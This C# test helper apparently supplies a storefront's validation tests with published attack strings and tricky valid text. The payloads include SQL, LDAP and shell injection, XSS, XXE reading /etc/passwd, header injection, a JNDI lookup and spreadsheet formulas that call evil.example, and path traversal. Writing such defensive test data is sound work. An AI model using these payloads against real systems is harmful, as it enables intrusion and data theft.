using System.Globalization;
using System.Text;

namespace Storefront.Tests.Domain;

/// <summary>Attack strings from published lists, and unusual but valid text, by kind.</summary>
internal static class AttackStrings
{
    private const int Most = 191;

    public static IReadOnlyList<string> All { get; } =
    [
        // SQL, LDAP and shell
        "' OR '1'='1", "'; DROP TABLE \"Customers\";--", "1; SELECT pg_sleep(5)--", "admin'--", "%' UNION SELECT NULL--", "*)(uid=*))(|(uid=*",
        "`id`", "$(id)", "; ls -la", "| cat /etc/passwd",

        // Script and markup
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)", "'-alert(1)-'",
        "</title><script>alert(1)</script>", "<!--", "]]>", "&lt;b&gt;", "&#x3C;b&#x3E;",
        "\" autofocus onfocus=alert(1) x=\"", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",

        // Header and log injection, line ends of every kind
        "Jane\r\nBcc: victim@evil.example", "Jane\nX-Injected: 1", "Jane%0d%0aSet-Cookie: x=y", "Jane\u0085X", "Jane\u2028X", "Jane\u000bX",
        "\u001b[31mJane", "\t",

        // Hidden and reversed text
        "\u202Egnp.exe", "\u2066Jane\u2069", "Jane\u200F", "Ja\u061Cne", "Ja\u200Bne", "\uFEFFJane", "Ja\u2060ne", "Ja\u00ADne", "\u3164", "\u2800",
        "Jane\U000E0041",

        // Invalid text
        "a\0b", "\0", "\uD800", "a\uDC00b", "\uFFFE", "\uFDD0", "\uFFFD",

        // Look-alikes
        "Jаnе", "раураl", "\u212Aelvin", "\uFB01nn", "ｊａｎｅ", "jane\uFF20example.com", "jane@ex\uFF41mple.com", "jane@example\u3002com",
        "jаne@example.com", "ja\u0131ne@example.com",

        // Addresses that are several addresses, or have special forms
        "a@b.example,c@d.example", "Jane <jane@example.com>", "jane@example.com\r\nBcc: x@evil.example", "\"jane doe\"@example.com",
        "jane@[127.0.0.1]", "jane@example.com%00", "jane@localhost", "jane+tag@example.com",

        // Templates, formats and formulas
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0}", "{0:d99999}", "%s%n%x", "@(1+1)", "${jndi:ldap://evil.example/a}", "=cmd|' /C calc'!A0",
        "+1+1", "-2+3", "@SUM(1+1)", "=HYPERLINK(\"https://evil.example\")",

        // Paths and links
        "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "file:///etc/passwd", "https://evil.example", "//evil.example", "evil.example",

        // Words and numbers with a special meaning for programs
        "null", "undefined", "NaN", "true", "-1", "1e309", "[object Object]", "__proto__", "{\"a\":1}", "\\", "\"", "'",

        // Real names and characters
        "محمد", "שלום", "नारायण", "Nguyễn Văn A", "O’Brien-Smith", "Łódź", "I\u0307", "ß", "👩‍👩‍👧‍👦", "🏳️‍🌈", "❤️", "👍🏽",
        "+31 (0)20 123-4567 ext. 8",
        "٠١٢٣٤٥٦",

        // Lengths
        Zalgo(12), Zalgo(60), Times("a", Most), Times("a", Most + 1), Times("😀", Most), Times("😀", Most + 1), Times("9", Most),
        Times("9", Most + 1),
        Times("e\u0301", 96), Times("a", 1500), $"{Times("a", 180)}@example.com",
    ];

    private static string Times(string text, int times) => string.Concat(Enumerable.Repeat(text, times));

    // Combining marks on letters: each is a character of its own.
    private static string Zalgo(int marks)
    {
        var text = new StringBuilder();
        foreach (var letter in "Zalgo")
        {
            text.Append(letter);
            for (var mark = 0; mark < marks / 4; mark++)
            {
                text.Append((char)(0x0300 + (mark * 7 % 0x40)));
            }
        }

        return text.ToString();
    }

    /// <summary>A text for a failed test's message.</summary>
    public static string Show(string text) =>
        text.Length > 60 ? $"{text.Length} characters of {Show(text[..8])}" : string.Concat(text.Select(character =>
        character is >= ' ' and <= '~' ? character.ToString() : string.Create(CultureInfo.InvariantCulture, $"\\u{(int)character:x4}")));
}
